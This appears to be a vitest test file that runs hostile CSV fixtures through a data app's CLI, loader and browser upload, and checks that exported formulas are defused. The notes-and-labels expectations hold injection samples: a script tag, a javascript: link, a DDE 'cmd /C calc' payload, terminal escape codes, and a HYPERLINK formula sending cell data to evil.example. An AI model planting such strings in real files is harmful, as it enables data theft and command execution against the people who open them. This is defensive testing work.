// Hostile files through every entry point that reads a CSV: the command line, the build's loader
// (loadBundle on a folder) and the browser upload's lib path (readUpload, which streams).
// Each fixture's outcome is stated once, in FIXTURES, and explained in
// tests/fixtures/hostile/README.md. The details are checked in-process (decodeCsvBytes, then
// validateCsvText); every other entry point must give that same report, and none may crash.
// A fixture with `libIssue` states the outcome it should have, not today's: its in-process test
// is expected to fail until lib is fixed, while the entry points must still agree with each other.
import {
  copyFileSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { computeChecks } from "@/lib/checks/registry";
import { decodeCsvBytes } from "@/lib/csv/decode";
import { readCsvText } from "@/lib/csv/read";
import type { DataBundle } from "@/lib/data/bundle";
import { findDataset, TIDY_COLUMNS } from "@/lib/data/datasets";
import { sourcesSchema, tidySchema } from "@/lib/data/schemas";
import type { Observation, ValidationReport } from "@/lib/data/types";
import { validateCsvText } from "@/lib/data/validate";
import type { IntakeReport } from "@/lib/intake/intake";
import { WINDOWS_1252_NOTE } from "@/lib/csv/legacy";
import { observationsCsv } from "@/lib/export/tables";
import { computeMetrics } from "@/lib/metrics/registry";
import { loadBundle } from "@/lib/server/load-data";
import { readUpload } from "@/lib/upload/read-upload";
import { rejectedRowsCsv } from "@/lib/upload/rejected-csv";
import { runAll, runCli, type Run } from "../support/cli";
import { DATA_DIR, REPO_ROOT, shippedFiles, TIDY_HEADER } from "../support/data";
import { rawTriggerCells } from "./triggers";

type ErrorTriple = [row: number, column: string, code: string];

interface Fixture {
  file: string;
  /** What is hostile about it, in a few words. */
  is: string;
  /** What `validate FILE --format json` exits with: 0 all valid, 1 any error, 2 not read. */
  exit: 0 | 1 | 2;
  /** For exit 2: why decodeCsvBytes refuses the bytes. */
  unreadable?: "binary_file" | "bad_encoding";
  rows?: number;
  valid?: number;
  rejectedRows?: number[];
  errors?: ErrorTriple[];
  /** The accepted rows' notes and value texts, exactly as they must come out. */
  notes?: string[];
  values?: string[];
  /** Made by the test (too big to commit) instead of read from tests/fixtures/hostile/. */
  generate?: () => Buffer;
  /** Why today's lib gives another outcome than the one stated: see the README. */
  libIssue?: string;
}

const FIXTURE_DIR = path.join(REPO_ROOT, "tests", "fixtures", "hostile");
const SOURCE_IDS = new Set(
  validateCsvText(shippedFiles()["sources.csv"]!, sourcesSchema).valid.map((s) => s.id),
);
const SCHEMA = tidySchema(findDataset("crude_annual")!, SOURCE_IDS);
const GOOD_ROW =
  "2023,russia,107.02,Mt,reported,asiafinancial-russia-crude-2023,China customs data";
const GOOD_CELLS = GOOD_ROW.split(",");
const FIVE_MB = 5 * 1024 * 1024;

/** A data file whose line breaks were lost: 5 MB of rows on one line, read as its header. */
function fiveMbOneLine(): Buffer {
  const row = `${GOOD_ROW} `;
  return Buffer.from(row.repeat(Math.ceil(FIVE_MB / row.length)), "utf8");
}
// Its first 20 header problems: the 7 cells of the first row (the last one runs into the next
// row's period), then the same names again, repeated. Then the cap, then the missing columns.
const FIRST_CELLS = [...GOOD_CELLS.slice(0, 6), `${GOOD_CELLS[6]} 2023`];
const FIVE_MB_ERRORS: ErrorTriple[] = [
  ...FIRST_CELLS.map((c): ErrorTriple => [1, c, "unknown_column"]),
  ...[...FIRST_CELLS.slice(1), ...FIRST_CELLS.slice(1), "russia"].map((c): ErrorTriple => [
    1,
    c,
    "duplicate_column",
  ]),
  [1, "", "too_many_header_errors"],
  ...TIDY_COLUMNS.map((c): ErrorTriple => [1, c, "missing_column"]),
];

const headerInvalid = (...rows: number[]) =>
  rows.map((r): ErrorTriple => [r, "", "header_invalid"]);
const range = (from: number, to: number) =>
  Array.from({ length: to - from + 1 }, (_, i) => from + i);

const FIXTURES: Fixture[] = [
  {
    file: "unterminated-quote.csv",
    is: "a quoted note never closed",
    exit: 1,
    rows: 2,
    valid: 1,
    rejectedRows: [3],
    errors: [[3, "", "unterminated_quote"]],
    notes: ["China customs data"],
  },
  {
    file: "stray-quotes.csv",
    is: "quotes inside unquoted notes, and one unescaped inside a quoted note",
    exit: 1,
    rows: 4,
    valid: 3,
    rejectedRows: [3],
    errors: [[3, "", "malformed_quote"]],
    notes: ['the source says "about 107 Mt"', 'properly "escaped" quotes', 'a 12" pipe'],
  },
  {
    file: "ragged-rows.csv",
    is: "6 fields, 8 fields, a line of spaces, a blank line",
    exit: 1,
    rows: 5,
    valid: 2,
    rejectedRows: [3, 4, 5],
    errors: [
      [3, "", "ragged_row"],
      [4, "", "ragged_row"],
      [5, "", "ragged_row"],
    ],
  },
  {
    file: "empty.csv",
    is: "zero bytes",
    exit: 1,
    rows: 0,
    valid: 0,
    rejectedRows: [],
    errors: [[0, "", "empty_file"]],
  },
  { file: "header-only.csv", is: "a header and no rows", exit: 0, rows: 0, valid: 0 },
  {
    file: "duplicate-column.csv",
    is: "value named twice in the header",
    exit: 1,
    rows: 2,
    valid: 0,
    rejectedRows: [2, 3],
    errors: [[1, "value", "duplicate_column"], ...headerInvalid(2, 3)],
  },
  {
    file: "missing-column.csv",
    is: "no unit column",
    exit: 1,
    rows: 2,
    valid: 0,
    rejectedRows: [2, 3],
    errors: [[1, "unit", "missing_column"], ...headerInvalid(2, 3)],
  },
  {
    file: "extra-column.csv",
    is: "an extra comment column",
    exit: 1,
    rows: 2,
    valid: 0,
    rejectedRows: [2, 3],
    errors: [[1, "comment", "unknown_column"], ...headerInvalid(2, 3)],
  },
  {
    file: "utf8-bom.csv",
    is: "UTF-8 with a byte-order mark",
    exit: 0,
    rows: 2,
    valid: 2,
    notes: ["China customs data – 1.07 亿吨", ""],
  },
  {
    file: "utf16le-bom.csv",
    is: "UTF-16 LE with its byte-order mark, CRLF",
    exit: 0,
    rows: 2,
    valid: 2,
    notes: ["China customs data – 1.07 亿吨 𝟙", ""],
  },
  {
    file: "utf16be-bom.csv",
    is: "UTF-16 BE with its byte-order mark, CRLF",
    exit: 0,
    rows: 2,
    valid: 2,
    notes: ["China customs data – 1.07 亿吨 𝟙", ""],
  },
  {
    file: "crlf.csv",
    is: "CRLF line ends, a quoted note spanning two lines",
    exit: 0,
    rows: 3,
    valid: 3,
    notes: ["China customs data", "two lines:\r\nsecond line", ""],
  },
  {
    file: "cr.csv",
    is: "lone CR line ends",
    exit: 0,
    rows: 3,
    valid: 3,
    notes: ["China customs data", "", ""],
  },
  {
    file: "mixed-crlf-then-lf.csv",
    is: "a CRLF header, then LF rows",
    exit: 0,
    rows: 3,
    valid: 3,
    notes: ["China customs data", "", ""],
  },
  {
    file: "mixed-lf-then-crlf.csv",
    is: "an LF header, then CRLF rows",
    exit: 0,
    rows: 2,
    valid: 2,
    notes: ["China customs data", ""],
  },
  {
    file: "semicolon.csv",
    is: "semicolon-separated, decimal commas: read as semicolons, and each decimal comma named",
    exit: 1,
    rows: 2,
    valid: 0,
    rejectedRows: [2, 3],
    errors: [
      [2, "value", "not_a_number"],
      [3, "value", "not_a_number"],
    ],
  },
  {
    file: "tab.csv",
    is: "tab-separated: read as tabs",
    exit: 0,
    rows: 2,
    valid: 2,
  },
  { file: "nul-byte.csv", is: "a NUL byte in a note", exit: 2, unreadable: "binary_file" },
  {
    file: "latin1.csv",
    is: "Windows-1252 bytes (é, –, curly quotes): read as Windows-1252, and said so",
    exit: 0,
    rows: 2,
    valid: 2,
    notes: ["China customs data", "café – “quoted”"],
  },
  {
    file: "numbers.csv",
    is: "1,234 (quoted and not), 1e3, +1.5E-03, 007, NaN, ±Infinity, 0x1F, full-width digits, .5, 1., a space, 107,02, U+2212 minus",
    exit: 1,
    rows: 18,
    valid: 3,
    rejectedRows: range(2, 16),
    errors: range(2, 16).map((r): ErrorTriple =>
      r === 3 ? [r, "", "ragged_row"] : [r, "value", "not_a_number"],
    ),
    values: ["0", "0.5", "107.020"],
  },
  {
    file: "values-and-periods.csv",
    is: "negative volumes, absurd magnitudes, far-future and malformed periods",
    exit: 1,
    rows: 16,
    valid: 4,
    rejectedRows: [2, 3, 6, 7, 8, 10, ...range(12, 17)],
    errors: [
      [2, "value", "negative_value"],
      [3, "value", "negative_value"],
      ...[6, 7, 8, 10].map((r): ErrorTriple => [r, "value", "implausible_value"]),
      ...range(12, 17).map((r): ErrorTriple => [r, "period", "bad_period"]),
    ],
    values: ["-0", "100000", "0.000000000000000000001", "1"],
  },
  {
    file: "share-out-of-range.csv",
    is: "Russia's share of China's imports at -5 % and 250 %",
    exit: 1,
    rows: 3,
    valid: 1,
    rejectedRows: [3, 4],
    errors: [
      [3, "value", "below_minimum"],
      [4, "value", "implausible_value"],
    ],
  },
  {
    file: "keys-units-sources.csv",
    is: "duplicate keys, unknown units, unknown and malformed sources, a capitalised basis",
    exit: 1,
    rows: 13,
    valid: 3,
    rejectedRows: [3, ...range(5, 13)],
    errors: [
      [3, "", "duplicate_key"],
      [5, "", "duplicate_key"],
      ...range(6, 9).map((r): ErrorTriple => [r, "unit", "unknown_unit"]),
      [10, "source_id", "unknown_source"],
      [11, "source_id", "bad_identifier"],
      [12, "source_id", "empty_value"],
      [13, "basis", "unknown_basis"],
    ],
  },
  {
    file: "notes-and-labels.csv",
    is: "script, formulas and control characters in notes; HTML and a formula as series; javascript: as a source",
    exit: 1,
    rows: 11,
    valid: 7,
    rejectedRows: [9, 10, 11, 12],
    errors: [
      [9, "series", "unknown_series"],
      [10, "series", "unknown_series"],
      [11, "source_id", "bad_identifier"],
      [12, "unit", "unknown_unit"],
    ],
    notes: [
      "<script>alert(1)</script>",
      '=HYPERLINK("https://evil.example/?q="&A1,"Click for the source")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "+1-2",
      "-2+3",
      '<a href="javascript:alert(1)">source</a>',
      "bell\u0007 backspace\u0008 escape\u001b[31m red\u001b[0m delete\u007f",
    ],
  },
  {
    file: "five-mb-one-line.csv",
    is: "5 MB on one line: data rows whose line breaks were lost",
    exit: 1,
    rows: 0,
    valid: 0,
    rejectedRows: [],
    errors: FIVE_MB_ERRORS,
    generate: fiveMbOneLine,
  },
];

let tmp: string;
const bytesCache = new Map<string, Uint8Array<ArrayBuffer>>();
const fixturePath = (f: Fixture) =>
  f.generate ? path.join(tmp, f.file) : path.join(FIXTURE_DIR, f.file);
function bytesOf(f: Fixture): Uint8Array<ArrayBuffer> {
  let bytes = bytesCache.get(f.file);
  if (!bytes) {
    bytes = new Uint8Array(f.generate ? f.generate() : readFileSync(fixturePath(f)));
    bytesCache.set(f.file, bytes);
  }
  return bytes;
}

/** The whole-file path, as the command line and the loader take it. */
type WholeRead =
  { unreadable: { code: string; message: string } } | { report: ValidationReport<Observation> };

const wholeCache = new Map<string, WholeRead>();
function readWhole(f: Fixture): WholeRead {
  let read = wholeCache.get(f.file);
  if (!read) {
    const decoded = decodeCsvBytes(bytesOf(f));
    read = decoded.ok
      ? { report: validateCsvText(decoded.text, SCHEMA) }
      : { unreadable: { code: decoded.code, message: decoded.message } };
    wholeCache.set(f.file, read);
  }
  return read;
}

const exitOf = (r: WholeRead) => ("unreadable" in r ? 2 : r.report.errors.length > 0 ? 1 : 0);

/** The report as the CLI prints it and the loader files it. */
const summaryOf = (r: ValidationReport<unknown>) => ({
  rows: r.rows,
  valid: r.valid.length,
  rejected: r.rejectedRows.length,
  errors: r.errors,
});

const observationFields = (o: Observation) => [
  o.row,
  o.period.label,
  o.series,
  o.valueText,
  o.value,
  o.unit,
  o.basis,
  o.sourceId,
  o.note,
];

/** What holds for every report, whatever the file: each record valid or rejected, once. */
function expectConsistent(r: ValidationReport<unknown>) {
  expect(r.valid.length + r.rejectedRows.length).toBe(r.rows);
  expect(r.rejectedRows).toEqual([...new Set(r.rejectedRows)].sort((a, b) => a - b));
}

const cli: Record<string, Run> = {};
const loaded: Record<string, DataBundle> = {};

beforeAll(async () => {
  tmp = mkdtempSync(path.join(os.tmpdir(), "hostile-"));
  for (const f of FIXTURES) if (f.generate) writeFileSync(fixturePath(f), bytesOf(f));
  const validate = (f: Fixture) => () =>
    runCli("validate", [
      path.relative(REPO_ROOT, fixturePath(f)),
      "--dataset",
      "crude_annual",
      "--format",
      "json",
    ]);
  const runs = runAll(Object.fromEntries(FIXTURES.map((f) => [f.file, validate(f)])), 4);
  // Meanwhile, the loader on a whole folder: the shipped one, its crude_annual.csv the fixture.
  const folder = path.join(tmp, "data");
  mkdirSync(folder);
  for (const name of readdirSync(DATA_DIR)) {
    copyFileSync(path.join(DATA_DIR, name), path.join(folder, name));
  }
  for (const f of FIXTURES) {
    writeFileSync(path.join(folder, "crude_annual.csv"), bytesOf(f));
    loaded[f.file] = await loadBundle(folder);
  }
  Object.assign(cli, await runs);
}, 240_000);

afterAll(() => {
  if (tmp) rmSync(tmp, { recursive: true, force: true });
});

function outcomeTitle(f: Fixture) {
  if (f.unreadable) return `not read (${f.unreadable}), exit 2`;
  const rejected = f.rejectedRows?.length
    ? `rejected ${f.rejectedRows.join(", ")}`
    : "none rejected";
  return `${f.rows} rows, ${f.valid} valid, ${rejected}, exit ${f.exit}`;
}

describe("hostile fixtures read in-process (decodeCsvBytes, then validateCsvText)", () => {
  it("states consistent outcomes: valid + rejected = rows, and exit 0 only without errors", () => {
    for (const f of FIXTURES.filter((x) => !x.unreadable)) {
      expect((f.valid ?? 0) + (f.rejectedRows?.length ?? 0), f.file).toBe(f.rows);
      expect(f.exit, f.file).toBe((f.errors?.length ?? 0) > 0 ? 1 : 0);
    }
  });

  for (const f of FIXTURES) {
    const test = f.libIssue ? it.fails : it;
    test(`${f.file} (${f.is}): ${outcomeTitle(f)}${f.libIssue ? " [lib issue]" : ""}`, () => {
      const whole = readWhole(f);
      expect(exitOf(whole)).toBe(f.exit);
      if ("unreadable" in whole) {
        expect(whole.unreadable.code).toBe(f.unreadable);
        return;
      }
      const { report } = whole;
      expectConsistent(report);
      expect({
        rows: report.rows,
        valid: report.valid.length,
        rejectedRows: report.rejectedRows,
        errors: report.errors.map((e): ErrorTriple => [e.row, e.column, e.code]),
      }).toEqual({
        rows: f.rows,
        valid: f.valid,
        rejectedRows: f.rejectedRows ?? [],
        errors: f.errors ?? [],
      });
      if (f.notes) expect(report.valid.map((o) => o.note)).toEqual(f.notes);
      if (f.values) expect(report.valid.map((o) => o.valueText)).toEqual(f.values);
    });
  }
});

describe("hostile fixtures through the command line (validate FILE --dataset crude_annual --format json)", () => {
  it.each(FIXTURES)("$file: exits as stated, prints the in-process report, no stack trace", (f) => {
    const run = cli[f.file]!;
    const whole = readWhole(f);
    expect(run.stderr).not.toContain("    at ");
    expect(run.code).toBe(exitOf(whole));
    // A fixture with a lib issue states the exit it should have; today's is checked above.
    if (!f.libIssue) expect(run.code).toBe(f.exit);
    if ("unreadable" in whole) {
      expect(run.stdout).toBe("");
      expect(run.stderr).toBe(
        `validate: cannot read ${path.relative(REPO_ROOT, fixturePath(f))}: ${whole.unreadable.message}\n`,
      );
      return;
    }
    expect(run.stderr).toBe("");
    const json = JSON.parse(run.stdout) as ReturnType<typeof summaryOf>;
    const { notes, lines } = whole.report as IntakeReport<unknown>;
    // Read from the file, the command line also says which encoding it read it as.
    const encoding =
      f.file === "latin1.csv" ? [{ code: "encoding", message: WINDOWS_1252_NOTE }] : [];
    expect(json).toEqual({
      dataset: "crude_annual",
      ...summaryOf(whole.report),
      notes: [...encoding, ...notes],
      lines,
    });
    expect(json.valid + json.rejected).toBe(json.rows);
    // No 5 MB cell is echoed back.
    expect(run.stdout.length).toBeLessThan(10_000);
  });
});

describe("hostile fixtures through the build's loader (loadBundle on a folder)", () => {
  it.each(FIXTURES)(
    "$file: crude_annual.csv is reported as in-process, the others untouched",
    (f) => {
      const bundle = loaded[f.file]!;
      const whole = readWhole(f);
      const report = bundle.reports.find((r) => r.file === "crude_annual.csv")!;
      if ("unreadable" in whole) {
        expect(report).toMatchObject({ rows: 0, valid: 0, rejected: 0 });
        expect(report.errors).toEqual([
          { row: 0, column: "", code: "unreadable_file", message: whole.unreadable.message },
        ]);
        expect(bundle.datasets.crude_annual).toEqual([]);
      } else {
        expect({
          rows: report.rows,
          valid: report.valid,
          rejected: report.rejected,
          errors: report.errors,
        }).toEqual(summaryOf(whole.report));
        expect(bundle.datasets.crude_annual.map(observationFields)).toEqual(
          whole.report.valid.map(observationFields),
        );
      }
      for (const other of bundle.reports.filter((r) => r.file !== "crude_annual.csv")) {
        expect(other.errors, other.file).toEqual([]);
      }
    },
  );

  it.each(FIXTURES)(
    "$file: the dashboard's metrics and checks still compute, every number finite or null",
    (f) => {
      const bundle = loaded[f.file]!;
      const metrics = computeMetrics(bundle);
      for (const m of metrics) {
        for (const x of [m.value, m.low, m.high]) {
          expect(x === null || Number.isFinite(x), m.id).toBe(true);
        }
      }
      expect(() => computeChecks(bundle, metrics)).not.toThrow();
    },
  );
});

describe("hostile fixtures through the browser upload's lib path (readUpload, streamed)", () => {
  // The default chunk (1 MB: the 5 MB file comes in five), and chunks small enough to split
  // every line, quote and character of the small files.
  const chunkSizes = (f: Fixture) => (f.generate ? [undefined] : [undefined, 5]);

  it.each(FIXTURES)(
    "$file: the same report and rows as the whole-file path, in any chunk size",
    async (f) => {
      const whole = readWhole(f);
      for (const chunkSize of chunkSizes(f)) {
        const { validation, upload } = await readUpload(
          new Blob([bytesOf(f)]),
          "crude_annual",
          SOURCE_IDS,
          { chunkSize },
        );
        if ("unreadable" in whole) {
          expect(validation.end).toEqual({ ok: false, ...whole.unreadable });
          continue;
        }
        expect(validation.end).toEqual({ status: "complete" });
        expectConsistent(validation.report);
        expect(summaryOf(validation.report)).toEqual(summaryOf(whole.report));
        expect((validation.report.valid as Observation[]).map(observationFields)).toEqual(
          whole.report.valid.map(observationFields),
        );
        expect([...validation.rejected.rows()]).toEqual(whole.report.rejectedRows);
        expect(
          "observations" in upload && upload.observations.every((o) => o.origin === "reader"),
        ).toBe(true);
      }
    },
    // The 5 MB file is read in full twice; on a machine shared by several runs that takes seconds.
    60_000,
  );

  // Not the 5 MB file: its download is 383,629 copies of seven header names (2 s, nothing new).
  it.each(FIXTURES.filter((f) => !f.unreadable && !f.generate))(
    "$file: the rejected-rows download reads back with no cell starting a formula",
    async (f) => {
      const { validation } = await readUpload(new Blob([bytesOf(f)]), "crude_annual", SOURCE_IDS);
      const { header, rejected, report } = validation;
      const table = readCsvText(rejectedRowsCsv(header, rejected, report.errors));
      expect(table.syntaxErrors).toEqual([]);
      expect(rawTriggerCells(table)).toEqual([]);
    },
  );
});

describe("accepted text is kept as written and defused only on export", () => {
  const notes = FIXTURES.find((f) => f.file === "notes-and-labels.csv")!;

  it("writes the accepted notes back with a leading ' on the formulas only", () => {
    const whole = readWhole(notes);
    if ("unreadable" in whole) throw new Error("notes-and-labels.csv must be readable");
    const back = readCsvText(observationsCsv(whole.report.valid));
    expect(back.records.map((r) => r.fields[6])).toEqual([
      "<script>alert(1)</script>",
      `'=HYPERLINK("https://evil.example/?q="&A1,"Click for the source")`,
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'+1-2",
      "'-2+3",
      '<a href="javascript:alert(1)">source</a>',
      "bell\u0007 backspace\u0008 escape\u001b[31m red\u001b[0m delete\u007f",
    ]);
    expect(rawTriggerCells(back)).toEqual([]);
  });
});

describe("what the messages tell a reader", () => {
  const messagesOf = (f: Fixture) => {
    const whole = readWhole(f);
    return "unreadable" in whole
      ? [whole.unreadable.message]
      : [
          ...whole.report.errors.map((e) => e.message),
          ...(whole.report as IntakeReport<unknown>).notes.map((n) => n.message),
        ];
  };
  const fixture = (file: string) => FIXTURES.find((f) => f.file === file)!;

  it.each(FIXTURES)("$file: every message is one line of under 400 characters", (f) => {
    for (const m of messagesOf(f)) {
      expect(m.trim()).not.toBe("");
      expect(m).not.toMatch(/[\r\n]/);
      expect(m.length).toBeLessThan(400);
    }
  });

  // The file is read with the separator it uses, and the report says which.
  it.each([
    { file: "semicolon.csv", separator: /semicolon/i },
    { file: "tab.csv", separator: /\btabs?\b/i },
  ])("$file: a note names the separator the file uses", ({ file, separator }) => {
    expect(messagesOf(fixture(file)).some((m) => separator.test(m))).toBe(true);
  });

  // The unit cell "\x1b[2JMt" is quoted with its control character escaped: printed raw to a
  // terminal by `validate --format text`, it would clear the screen.
  it("notes-and-labels.csv: no message carries a raw control character", () => {
    for (const m of messagesOf(fixture("notes-and-labels.csv"))) {
      expect(m).not.toMatch(/[\u0000-\u001f\u007f]/);
    }
  });

  // `"87.49"x` has its closing quote; the text after it is what is wrong. papaparse keeps looking
  // for a closing quote and swallows the next row, and the message says the quote is never closed.
  it.fails(
    'a closed quote followed by text ("87.49"x) is a quote in the wrong place, and the next row is still read [lib issue]',
    () => {
      const report = validateCsvText(
        `${TIDY_HEADER}\n2023,russia,"87.49"x,Mt,reported,asiafinancial-russia-crude-2023,\n${GOOD_ROW.replace("2023", "2022")}\n`,
        SCHEMA,
      );
      expect({
        rows: report.rows,
        errors: report.errors.map((e) => [e.row, e.code]),
      }).toEqual({ rows: 2, errors: [[2, "malformed_quote"]] });
    },
  );
});

describe("where a header problem is reported", () => {
  // A spreadsheet shows a header that follows two blank lines on row 3: every problem of that
  // header, and every "see row …" of a rejected record, says row 3.
  it("numbers every problem of a header on row 3 with row 3, the row a spreadsheet shows", () => {
    const report = validateCsvText(
      `\n\n"per"iod",series,value,unit,basis,source_id,note\n${GOOD_ROW}\n`,
      SCHEMA,
    );
    expect(report.errors.map((e) => [e.row, e.code])).toEqual([
      [3, "malformed_quote"],
      [3, "unknown_column"],
      [3, "missing_column"],
      [4, "header_invalid"],
    ]);
    expect(report.errors.at(-1)!.message).toContain("row 3");
  });
});

describe("tests/fixtures/hostile/README.md", () => {
  const listed = () => {
    const readme = readFileSync(path.join(FIXTURE_DIR, "README.md"), "utf8");
    return Object.fromEntries(
      [...readme.matchAll(/^\| `([\w.-]+\.csv)` \| (\d) \|/gm)].map((m) => [m[1]!, Number(m[2])]),
    );
  };

  it("lists every fixture, with the exit code the tests state", () => {
    expect(listed()).toEqual(Object.fromEntries(FIXTURES.map((f) => [f.file, f.exit])));
  });

  it("has a fixture in the table for every file in the folder", () => {
    const files = readdirSync(FIXTURE_DIR).filter((n) => n.endsWith(".csv"));
    expect(files.sort()).toEqual(
      FIXTURES.filter((f) => !f.generate)
        .map((f) => f.file)
        .sort(),
    );
  });
});
